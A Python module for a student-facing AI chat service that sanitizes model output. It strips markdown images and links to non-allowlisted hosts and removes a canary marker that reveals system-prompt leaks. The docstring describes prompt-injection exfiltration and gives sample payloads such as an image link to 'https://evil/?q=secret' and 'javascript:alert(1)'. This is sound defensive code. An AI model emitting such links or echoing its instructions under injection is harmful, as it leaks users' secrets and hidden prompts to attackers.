"""Output safety: the model's text stays text; images and links are kept only for allowed hosts.

A prompt-injected passage could make the model emit `![x](https://evil/?q=secret)` (which a
markdown renderer would fetch) or a link to a phishing page. Markdown images and links whose
host is not on the allowlist (`LINK_ALLOWLIST`, empty by default) are removed; a removed link
keeps its text. That covers inline links and images (destinations with balanced parentheses,
as in `javascript:alert(1)`), reference definitions (`[r]: https://evil/`) and autolinks
(`<https://evil/>`); a `](` left over (a destination nested too deep to parse) is broken
apart so that no renderer makes a link of it. `StreamSanitizer` does the same on a token
stream, holding back only the characters that may still turn into a link.

Canary: every answer's system prompt ends with a fresh random marker (`new_canary`). It
appears in nothing a student can send or upload, so the model writes it only when it echoes
its instructions (a prompt injection asked for them). `StreamSanitizer(secrets=...)` removes
it wherever it appears, in any case, also split across chunks: a tail that may be the start
of one is held back until it is known not to be.
"""

from __future__ import annotations

import re
import secrets as _secrets
from collections.abc import Iterable
from urllib.parse import urlsplit

# A link destination: no spaces, parentheses balanced one level deep (CommonMark allows them).
_DEST = r"(?:[^()\s<>]|\([^()\s<>]*\))*"
_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?(" + _DEST + r')>?(?:\s+"[^"\n]*")?\s*\)')
# Inline links, or a "](" that is left when the destination could not be parsed.
_LINK_OR_LEFTOVER = re.compile(f"{_LINK.pattern}|\\]\\(")
# A reference definition, `[r]: <url> "title"` on a line of its own, to a URL-like destination.
_REFDEF = re.compile(
    r"^ {0,3}\[[^\]\n]+\]:[ \t]*<?((?:[a-z][a-z0-9+.-]*:|www\.|/)[^\s>]*)>?"
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*$""",
    re.M | re.I,
)
_AUTOLINK = re.compile(r"<([a-z][a-z0-9+.-]{1,31}:[^<>\s]*)>", re.I)
# A tail that could still grow into a markdown link, image or reference definition (until
# the end of its line): hold it back while streaming.
_OPEN_TAIL = re.compile(
    r"!?(\[[^\]\n]*(\](\((?:[^()\n]|\([^()\n]*\))*(?:\([^()\n]*)?|:[^\n]*)?)?)?$"
)
# A tail that could still grow into an autolink.
_OPEN_AUTOLINK = re.compile(r"<(?:[a-z][a-z0-9+.-]{0,31}(?::[^<>\s]*)?)?$", re.I)
_MAX_HELD = 500


def new_canary() -> str:
    """A random marker for one system prompt: unguessable, one word, never in an answer."""
    return f"cg-canary-{_secrets.token_hex(12)}"


def _allowed(url: str, hosts: frozenset[str]) -> bool:
    parts = urlsplit(url)
    if parts.scheme.lower() not in ("http", "https"):
        return False
    host = (parts.hostname or "").lower()
    return any(host == h or host.endswith("." + h) for h in hosts)


def sanitize(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Remove images and links to hosts not in `allowed_hosts` (a link keeps its text)."""
    hosts = frozenset(h.lower().strip() for h in allowed_hosts if h.strip())

    def replace(match: re.Match[str]) -> str:
        if match.group(0) == "](":
            return "] ("  # not a link any more, in any markdown
        is_image, label, url = match.group(1), match.group(2), match.group(3)
        if _allowed(url, hosts):
            return match.group(0)
        return "" if is_image else label

    def keep_if_allowed(match: re.Match[str]) -> str:
        return match.group(0) if _allowed(match.group(1), hosts) else ""

    text = _LINK_OR_LEFTOVER.sub(replace, text)
    text = _REFDEF.sub(keep_if_allowed, text)
    return _AUTOLINK.sub(keep_if_allowed, text)


class StreamSanitizer:
    """Sanitize text arriving in pieces; `feed` returns what is safe to send now.

    `secrets` (the canary) are removed wherever they appear, case-insensitively;
    `secrets_removed` counts them.
    """

    def __init__(self, allowed_hosts: Iterable[str] = (), secrets: Iterable[str] = ()) -> None:
        self._hosts = tuple(allowed_hosts)
        self._secrets = tuple(s.lower() for s in secrets if s)
        self._secret = (
            re.compile("|".join(re.escape(s) for s in self._secrets), re.I)
            if self._secrets
            else None
        )
        self._held = ""
        self.secrets_removed = 0

    def feed(self, piece: str) -> str:
        self._held = self._without_secrets(self._held + piece)
        starts = [s for s in (self._open_tail_start(), self._secret_tail_start()) if s is not None]
        start = min(starts, default=None)
        if start is None:
            out, self._held = self._held, ""
        else:
            out, self._held = self._held[:start], self._held[start:]
        return sanitize(out, self._hosts)

    def flush(self) -> str:
        out, self._held = self._without_secrets(self._held), ""
        return sanitize(out, self._hosts)

    def _without_secrets(self, text: str) -> str:
        # Removed before links are looked at: a secret inside a URL cannot survive in it either.
        if self._secret is None:
            return text
        while True:  # until none is left: a removal may join the halves of another one
            text, count = self._secret.subn("", text)
            if not count:
                return text
            self.secrets_removed += count

    def _secret_tail_start(self) -> int | None:
        # The earliest start of a tail that is a proper prefix of a secret.
        held = self._held
        best: int | None = None
        for secret in self._secrets:
            for size in range(min(len(secret) - 1, len(held)), 0, -1):
                if held[-size:].lower() == secret[:size]:
                    start = len(held) - size
                    best = start if best is None else min(best, start)
                    break
        return best

    def _open_tail_start(self) -> int | None:
        # A last "!" may still become an image ("![").
        bang = len(self._held) - 1 if self._held.endswith("!") else None
        starts = [self._open_link_start(), self._open_autolink_start(), bang]
        return min((s for s in starts if s is not None), default=None)

    def _open_link_start(self) -> int | None:
        # The last "[" (or "![") that has not been closed into a complete link yet.
        index = self._held.rfind("[")
        if index < 0 or len(self._held) - index > _MAX_HELD:
            return None
        if index > 0 and self._held[index - 1] == "!":
            index -= 1
        tail = self._held[index:]
        if _LINK.match(tail) or not _OPEN_TAIL.fullmatch(tail):
            return None
        return index

    def _open_autolink_start(self) -> int | None:
        # The last "<" that may still become `<scheme:...>`.
        index = self._held.rfind("<")
        if index < 0 or len(self._held) - index > _MAX_HELD:
            return None
        return index if _OPEN_AUTOLINK.fullmatch(self._held, index) else None
